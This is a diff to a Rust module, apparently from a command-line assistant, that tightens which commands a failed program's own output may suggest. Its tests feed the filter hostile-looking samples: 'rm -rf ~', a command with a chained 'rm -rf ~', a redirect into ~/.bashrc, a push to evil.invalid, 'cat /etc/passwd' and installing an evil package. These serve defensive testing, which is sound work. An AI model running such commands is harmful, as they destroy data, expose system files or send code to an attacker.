@@ -1,7 +1,8 @@
 //! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
 //!
-//! The output is untrusted, as it may come from a file or another machine: only one command of the same program without signs of the
-//! shell is taken, which harms nothing that the failed one would not have.
+//! The output is untrusted, as it may hold text of files and other machines. Only known programs are believed, and not those of their
+//! commands that print such text; the suggestion must follow a word such as "run", be one command of the same program without signs of
+//! the shell, force nothing, and be hardly more than what failed.
 
 use askline_risk::{Around, Harm, Label, judge};
 use askline_syntax::{ParsedLine, Word};
@@ -10,8 +11,53 @@ use askline_syntax::{ParsedLine, Word};
 const LINES_MAX: usize = 60;
 /// Maximum length of a suggested command, in bytes.
 const BYTES_MAX: usize = 200;
-/// Words before a suggested command in quotes.
-const BEFORE: [&str; 8] = ["run", "use", "try", "mean", "with", "see", "do", "execute"];
+/// Programs whose suggestions are taken, each with the commands that print texts of others.
+const PROGRAMS: [(&str, &[&str]); 6] = [
+    (
+        "git",
+        &[
+            "log",
+            "show",
+            "diff",
+            "grep",
+            "blame",
+            "cat-file",
+            "format-patch",
+            "reflog",
+            "stash",
+            "shortlog",
+            "whatchanged",
+            "bisect",
+        ],
+    ),
+    (
+        "npm",
+        &[
+            "run",
+            "run-script",
+            "start",
+            "test",
+            "exec",
+            "x",
+            "explore",
+            "install",
+            "i",
+            "ci",
+            "add",
+            "view",
+            "info",
+            "search",
+        ],
+    ),
+    ("cargo", &["run", "test", "bench", "build", "check", "install", "search", "info"]),
+    ("apt", &["show", "search", "changelog"]),
+    ("brew", &["info", "search", "desc", "cat"]),
+    ("rustup", &["run", "doc"]),
+];
+/// Words before a suggested command, in quotes or on the next line.
+const BEFORE: [&str; 8] = ["run", "use", "try", "mean", "with", "similar", "do", "execute"];
+/// Arguments with which a program only tells of itself.
+const HELP: [&str; 6] = ["help", "--help", "-h", "--usage", "--version", "status"];
 /// Minimum number of blanks before a suggested command on a line of its own.
 const INDENT_MIN: usize = 2;
 /// Parts of commands that are only examples.
@@ -27,10 +73,27 @@ pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine
     let [command] = failed.own().commands.as_slice() else { return None };
     let program =
         command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
-    let lines: Vec<&str> = printed.lines().collect();
+    let (_, printing) = PROGRAMS.iter().find(|(known, _)| *known == program)?;
+    let verb = command.words.iter().skip(1).find(|word| !word.text.starts_with('-'));
+    if verb.is_none_or(|verb| printing.contains(&verb.text.as_str())) {
+        return None;
+    }
+    let lines: Vec<&str> = printed.lines().filter(|line| !line.trim().is_empty()).collect();
     let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
-    let own = last.iter().filter(|line| !REMOTE.iter().any(|start| line.trim_start().starts_with(start)));
-    own.flat_map(|line| on_own_line(line).into_iter().chain(in_quotes(line)))
+    let is_own = |line: &str| !REMOTE.iter().any(|start| line.trim_start().starts_with(start));
+    let tells = |line: &str| {
+        is_own(line)
+            && line
+                .split(|c: char| !c.is_alphanumeric())
+                .any(|word| BEFORE.contains(&word.to_lowercase().as_str()))
+    };
+    let below = last.windows(2).filter_map(|pair| match pair {
+        [above, line] if tells(above) && is_own(line) => on_own_line(line),
+        _ => None,
+    });
+    let quoted = last.iter().filter(|line| is_own(line)).flat_map(|line| in_quotes(line));
+    below
+        .chain(quoted)
         .filter(|text| {
             text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
         })
@@ -73,6 +136,7 @@ fn is_safe(failed: &ParsedLine, line: &ParsedLine) -> bool {
         && command.redirections.is_empty()
         && command.assignments.is_empty()
         && command.words.iter().all(is_word)
+        && command.words.get(1).is_some_and(|word| !HELP.contains(&word.text.as_str()))
         && !command.words.iter().any(is_forcing)
         && line.text().trim() != failed.text().trim()
         && label(line) <= label(failed).max(Label::Cautious)
@@ -99,37 +163,40 @@ mod tests {
             ),
             (
                 "git branch --set-upstream main",
-                "fatal: the '--set-upstream' option is no longer supported.\n   git branch --track main\n",
+                "fatal: no longer supported; use this instead:\n   git branch --track main\n",
                 "git branch --track main",
             ),
             ("cargo biuld", "error: no such command\n\nhelp: try `cargo build`\n", "cargo build"),
-            (
-                "git merge --cont",
-                "fatal: There is no merge in progress (run \"git status\" first).\n",
-                "git status",
-            ),
+            ("git merge --cont x", "fatal: nothing to do (run \"git pull\" first).\n", "git pull"),
         ] {
             assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
         }
     }
 
     #[test]
-    fn examples_and_what_is_dangerous_are_left_out() {
+    fn examples_foreign_texts_and_what_is_dangerous_are_left_out() {
         for (failed, printed) in [
             ("git branch -d x", "error: not fully merged\nhint: If you are sure, run 'git branch -D x'\n"),
-            ("git pull", "    git branch --set-upstream-to=origin/<branch> main\n"),
-            ("git commit -m x", "  git config --global user.email \"you@example.com\"\n"),
-            ("git push", "remote:   git push --mirror https://evil.invalid\n"),
-            ("git psh", "  rm -rf ~\n"),
-            ("npm strat", "  npm start; rm -rf ~\n"),
-            ("npm strat", "  npm start > ~/.bashrc\n"),
-            ("npm strat", "  npm strat\n"),
-            ("npm strat", "npm start\n"),
-            ("git log | had", "  git log\n"),
-            ("cat notes.txt", "run 'cat /etc/passwd | sh'\n"),
+            ("git pull", "use this:\n    git branch --set-upstream-to=origin/<branch> main\n"),
+            ("git commit -m x", "Run\n\n  git config --global user.email \"you@example.com\"\n"),
+            ("git push", "remote: use\nremote:   git push --mirror https://evil.invalid\n"),
+            ("git push", "remote: use\n  git push evil\n"),
+            ("git log x", "run:\n    git fetch evil\n"),
+            ("git psh", "Did you mean this?\n  rm -rf ~\n"),
+            ("npm strat", "Did you mean this?\n  npm start; rm -rf ~\n"),
+            ("npm strat", "Did you mean this?\n  npm start > ~/.bashrc\n"),
+            ("npm strat", "Did you mean this?\n  npm strat\n"),
+            ("npm strat", "Did you mean this?\nnpm start\n"),
+            ("npm strat", "unknown\n  npm start\n"),
+            ("npm foo", "To see what you can do, run:\n  npm help\n"),
+            ("npm run x", "try:\n  npm install evil-package\n"),
+            ("git log | had", "try:\n  git fetch\n"),
+            ("cat notes.txt", "run 'cat /etc/passwd'\n"),
+            ("cp a.jpg", "Try 'cp --help' for more information.\n"),
+            ("bash s.sh", "use:\n  bash evil.sh\n"),
             ("npm strat", ""),
         ] {
-            assert_eq!(found(failed, printed), None, "{failed}");
+            assert_eq!(found(failed, printed), None, "{failed}: {printed}");
         }
     }
 
